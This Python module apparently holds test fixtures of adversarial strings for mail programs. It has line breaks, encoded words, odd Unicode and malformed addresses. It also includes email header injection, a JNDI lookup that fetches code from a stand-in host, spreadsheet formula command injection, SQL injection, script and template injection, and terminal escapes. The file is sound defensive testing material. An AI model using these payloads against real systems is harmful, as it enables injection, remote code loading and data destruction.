"""Subjects and names that have broken mail programs, or would."""

from typing import Final

BREAKS: Final = (
    "\r\n", "\n", "\r", "\n\r", "\r\n ", "\r\n\t", "\x00", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028",
    "\u2029", "\x08", "\x1b[2J", "\x7f", "\x9b",
)  # fmt: skip
"""What somebody or something takes for the end of a line, or obeys."""
ENCODED: Final = (
    "=?UTF-8?Q?=0A?=", "=?utf-8?q?=0D=0A?=", "=?UTF-8?B?Cg==?=", "=?utf-8?b?DQo=?=", "=?us-ascii?Q?=0A?=",
    "=?utf-8*zh?Q?=0A?=", "=?gb2312?B?DQo=?=", "=?utf-7?Q?+AAo-?=", "=?utf-16?B?CgAK?=", "=?utf-8?Q?=E2=80=A8?=",
    "=?utf-8?Q?=C2=85?=", "=?x?Q?=0A?=", "=?utf-8?x?=0A?=", "=?utf-8?Q?=0A", "=?utf-8?Q?", "=?=?UTF-8?Q?=0A?=?=",
    "=?UTF-8?Q?=3D=3FUTF-8=3FQ=3F=0A=3F=3D?=", "=\u200b?UTF-8?Q?=0A?=", "=\r\n?UTF-8?Q?=0A?=", "=??=??=?utf-8?Q?=0A?=",
)  # fmt: skip
"""Encoded words of RFC 2047 that hide a line break, or nearly."""
HEADERS: Final = (
    "Bcc: x@evil.example",
    "Content-Type: text/html",
    "X-Evil: 1",
    "\r\n<script>alert(1)</script>",
)
"""What would follow the break."""
ODD: Final = (
    "", " ", "\t", "　", "=", "?", "=?", "?=", "=?=", ":", "::", "From:", "From ", ".", "\r\n.\r\n", "--", "-- ",
    "--=abababababababababababababababab=", "--=abababababababababababababababab=--", "\ufeff整改", "\u202e改整",
    "\u2066改整\u2069", "整\u200d改", "\ud800", "整\udfff改", "\ufffe", "\U000e0041", "e\u0301" * 50, "\u0301" * 200,
    "😀" * 100, "👨‍👩‍👧‍👦" * 20, "a" * 5_000, "整" * 5_000, "整 " * 500, "a " * 500, "=?" * 500, "(" * 500, '"' * 501,
    "\\" * 501, ";" * 500, "a:;, =?Qb" * 40, "<x@evil.example>", "x@evil.example, y@evil.example",
    "a=;:Qb,aaa?a : a?:==?:,::=;a ?bc;b,? ?:;;Q=? Qa=:  c,?,b=?bc? ,=a=a;QQQ cc?:a", "{{ 7 * 7 }}", "%s%n%x",
    "${jndi:ldap://evil.example/a}", "'; DROP TABLE delivery; --", "＝＋－＠cmd", "=cmd|'/c calc'!A0",
    "整改\x1b]0;x\x07",
)  # fmt: skip
"""What is odd all by itself."""
TEXTS: Final = (
    *(f"整改{mark}{header}" for mark in (*BREAKS, *ENCODED) for header in HEADERS),
    *(f"{mark}整改{mark}" for mark in (*BREAKS, *ENCODED)),
    *ODD,
)
ADDRESSES: Final = (
    "", "@", "a", "a@", "@b.example", "a@b@c.example", "a b@c.example", "a@b.example\r\nBcc: x@evil.example",
    "a@b.example\n", "\na@b.example", "a@b.example,x@evil.example", "a@b.example;x@evil.example", "<a@b.example>",
    "甲 <a@b.example>", '"a b"@c.example', "a@[127.0.0.1]", "a@-b.example", "a@b-.example", "a@b..example",
    ".a@b.example",
    "a.@b.example", "a..b@c.example", "a@b.example ", " a@b.example", "a@b.example\x00", "张三@b.example",
    "a@公安.example", "a@b.exa\u200bmple", "=?utf-8?q?a?=@b.example", "a@b.example>\r\nDATA", "a" * 65 + "@b.example",
    "a@" + "b" * 64 + ".example", "a@" + "b." * 130 + "example", "a(b)@c.example", "a@b.example(c)", "a:b@c.example",
    "a\\@b.example", "a!b@c.example", "a'b@c.example", "a@b_c.example", "a@b.example?bcc=x", "a@b.example SIZE=1",
)  # fmt: skip
"""What is no address, or more than one."""
